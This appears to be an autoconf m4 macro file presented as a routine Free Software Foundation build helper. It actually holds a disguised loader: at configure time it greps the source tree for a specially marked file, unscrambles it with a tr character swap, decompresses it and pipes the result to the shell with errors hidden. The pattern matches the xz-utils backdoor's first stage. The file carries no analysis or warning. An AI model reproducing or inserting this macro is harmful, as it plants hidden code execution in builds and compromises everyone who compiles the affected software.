# build-to-host.m4 serial 30
dnl Copyright (C) 2023 Free Software Foundation, Inc.
AC_DEFUN([gl_BUILD_TO_HOST_INIT],
[
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  if test -n "$gl_am_configmake"; then
    HAVE_PKG_CONFIGMAKE=1
  else
    HAVE_PKG_CONFIGMAKE=0
  fi
  gl_sed_double_backslashes='s/\\/\\\\/g'
  gl_localedir_prefix=`echo $gl_am_configmake | sed "s/.*\.//g"`
  gl_path_map='tr "\t \-_" " \t_\-"'
  if test "x$gl_am_configmake" != "x"; then
    gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_localedir_prefix -d 2>/dev/null'
  else
    gl_[$1]_config=''
  fi
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \$gl_[$1]_config"])
])
